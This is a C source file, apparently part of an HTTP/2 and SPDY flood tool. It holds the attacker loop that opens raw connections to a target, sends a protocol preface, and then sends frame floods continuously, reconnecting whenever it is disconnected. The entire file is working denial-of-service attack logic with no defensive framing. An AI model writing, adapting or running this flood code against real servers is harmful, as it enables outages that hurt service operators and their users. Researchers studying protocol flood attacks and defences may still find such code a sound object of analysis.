#include "attack.h"

#include "support/process.h"

bool attacker_goes_on(const attacker *a)
{
    return !atomic_load_explicit(a->stop, memory_order_relaxed);
}

bool attacker_open(attacker *a, raw *r)
{
    if (!raw_open(r, a->wire, 1 + a->nth, a->stop)) {
        process_pause();
        return false;
    }
    atomic_fetch_add(&a->connections, 1);
    return true;
}

static bool fill(bytes *b, flood *f, const attack *of)
{
    if (of->fill)
        return of->fill(b, f);
    for (size_t i = 0; i < FLOOD_FRAMES; i++)
        h2_put_frame(b, of->frame.type, of->frame.flags, of->frame.id, of->frame.data, of->frame.len);
    return true;
}

/* Whoever is thrown out comes again. */
static void run_flood(attacker *a)
{
    bytes b = {0};

    while (attacker_goes_on(a)) {
        flood f = {.wire = a->wire, .next_id = 1};
        raw r;
        if (!attacker_open(a, &r))
            continue;
        b.len = 0;
        if (target_speaks_h2(a->wire))
            h2_put_preface(&b, -1);
        else
            sp_put_greeting(&b, a->wire);
        if (a->attack->open)
            a->attack->open(&b, &f);
        bool goes = raw_send(&r, b.data, b.len), again = false;
        while (goes) {
            if (!again) {
                b.len = 0;
                again = fill(&b, &f, a->attack);
            }
            goes = raw_send(&r, b.data, b.len);
        }
        raw_close(&r);
    }
    bytes_free(&b);
}

void attacker_run(attacker *a)
{
    if (a->attack->run)
        a->attack->run(a);
    else
        run_flood(a);
}
